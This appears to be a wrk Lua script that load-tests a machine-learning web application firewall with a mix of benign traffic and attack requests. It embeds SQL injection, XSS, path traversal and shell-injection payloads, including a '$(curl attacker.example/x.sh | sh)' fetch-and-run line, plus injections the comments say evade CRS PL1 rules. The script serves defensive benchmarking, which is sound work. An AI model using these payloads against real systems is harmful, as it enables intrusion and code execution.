-- wrk request mix for `make bench`: a static page, a login form POST and a
-- JSON API call in equal shares, with MLWAF_BENCH_ATTACK_PCT percent of the
-- requests (default 0) carrying an attack in the same places. Every form and
-- API call also carries a token never sent before (as a CSRF token or request
-- id would be), so the analyzer cannot answer any of them from its cache alone.
--
--   MLWAF_BENCH_ATTACK_PCT=5 wrk -t2 -c200 -d10s -s bench/wrk-mix.lua http://127.0.0.1/
--
-- MLWAF_BENCH_ML_ONLY_PCT percent more are attacks that CRS PL1 misses and only the
-- model (or the degraded checks) can stop: GET /search.php?probe=ml-only&q=..., and
-- MLWAF_BENCH_PADDED_PCT percent of all requests (taken from those) carry about
-- 120 KB of filler in a form body as well (probe=ml-only-padded), which once made
-- the analyzer miss its deadline. The probe argument lets the access log tell them
-- apart: `make bench` counts every one of them not answered 403 as passed.
--
-- At the end one JSON line on stdout: requests, seconds, errors, status
-- classes and latency percentiles (milliseconds).

local benign_terms = {
  "blue widget", "gadget", "sprocket 12mm", "O'Brien's tools", "price < 20",
  "cafe au lait", "nut & bolt", "SELECT box", "50% off", "user@example.com",
}
local benign_users = { "alice", "bob", "carol", "dave.o'neil", "eve-2024" }

local attacks = {
  "' OR '1'='1' -- ",
  "1 UNION SELECT username, password FROM users",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "; cat /etc/passwd",
  "$(curl attacker.example/x.sh | sh)",
  "../../../../etc/passwd",
  "....//....//etc/shadow",
}

-- shell commands CRS PL1 lets through (rules 932xxx want a known command after the separator)
local ml_only_attacks = { ";id", "`id`", "|id", "\nid" }
local filler = "filler=" .. string.rep("lorem ipsum dolor sit amet consectetur ", 3000)

local function urlencode(text)
  return (string.gsub(text, "[^%w%-%._~]", function(c)
    return string.format("%%%02X", string.byte(c))
  end))
end

local function json_string(text)
  return '"' .. string.gsub(text, '[%c"\\]', function(c)
    return string.format("\\u%04x", string.byte(c))
  end) .. '"'
end

local form_headers = { ["Content-Type"] = "application/x-www-form-urlencoded" }
local json_headers = { ["Content-Type"] = "application/json", ["Accept"] = "application/json" }

-- The three request kinds, each built around one user-supplied value.
local function static_page(value)
  if value then
    return wrk.format("GET", "/style.css?v=" .. urlencode(value))
  end
  return wrk.format("GET", "/style.css")
end

local function form_post(value, i, token)
  local user = benign_users[(i % #benign_users) + 1]
  local body = "username=" .. urlencode(value or user) .. "&password=" .. urlencode("pw-" .. i)
    .. "&csrf=" .. token
  return wrk.format("POST", "/login.php", form_headers, body)
end

local function api_call(value, i, token)
  local term = value or benign_terms[(i % #benign_terms) + 1]
  local body = '{"q":' .. json_string(term) .. ',"limit":' .. (i % 10 + 1) .. ',"request_id":"' .. token .. '"}'
  return wrk.format("POST", "/api.php", json_headers, body)
end

local function ml_only(value)
  return wrk.format("GET", "/search.php?probe=ml-only&q=" .. urlencode(value))
end

local function ml_only_padded(value)
  return wrk.format("POST", "/search.php?probe=ml-only-padded&q=" .. urlencode(value), form_headers, filler)
end

local kinds = { static_page, form_post, api_call }
local plan = {}

-- One deterministic cycle of 600 requests: every kind equally often, and the
-- attack share spread evenly over the cycle and over the kinds.
function init(args)
  thread_id = thread_id or 0
  local pct = tonumber(os.getenv("MLWAF_BENCH_ATTACK_PCT") or "0") or 0
  local cycle = 600
  local function every(name)
    local share = tonumber(os.getenv(name) or "0") or 0
    return share > 0 and math.floor(100 / share + 0.5) or 0
  end
  local attack_every = pct > 0 and math.floor(100 / pct + 0.5) or 0
  local ml_only_every, padded_every = every("MLWAF_BENCH_ML_ONLY_PCT"), every("MLWAF_BENCH_PADDED_PCT")
  local attack_no = 0
  for i = 1, cycle do
    local kind = kinds[(i % #kinds) + 1]
    local value = nil
    if attack_every > 0 and i % attack_every == 0 then
      attack_no = attack_no + 1
      value = attacks[(attack_no % #attacks) + 1]
    elseif ml_only_every > 0 and i % ml_only_every == 1 then
      attack_no = attack_no + 1
      value = ml_only_attacks[(attack_no % #ml_only_attacks) + 1]
      kind = (padded_every > 0 and i % padded_every == 1) and ml_only_padded or ml_only
    end
    plan[i] = { kind, value, i }
  end
  counter = 0
  status_2xx, status_403, status_other = 0, 0, 0
end

function request()
  counter = counter + 1
  local step = plan[(counter % #plan) + 1]
  local token = string.format("%x-%08x", thread_id, (counter * 2654435761) % 4294967296)
  return step[1](step[2], step[3], token)
end

function response(status)
  if status >= 200 and status < 300 then
    status_2xx = status_2xx + 1
  elseif status == 403 then
    status_403 = status_403 + 1
  else
    status_other = status_other + 1
  end
end

local threads = {}

function setup(thread)
  thread:set("thread_id", #threads)
  table.insert(threads, thread)
end

function done(summary, latency, requests)
  local ok, denied, other = 0, 0, 0
  for _, t in ipairs(threads) do
    ok = ok + t:get("status_2xx")
    denied = denied + t:get("status_403")
    other = other + t:get("status_other")
  end
  local errors = summary.errors
  io.write(string.format(
    '{"requests":%d,"seconds":%.3f,"status_2xx":%d,"status_403":%d,"status_other":%d,'
      .. '"errors_connect":%d,"errors_read":%d,"errors_write":%d,"errors_timeout":%d,'
      .. '"p50_ms":%.3f,"p95_ms":%.3f,"p99_ms":%.3f,"max_ms":%.3f}\n',
    summary.requests, summary.duration / 1e6, ok, denied, other,
    errors.connect, errors.read, errors.write, errors.timeout,
    latency:percentile(50) / 1000, latency:percentile(95) / 1000,
    latency:percentile(99) / 1000, latency.max / 1000))
end
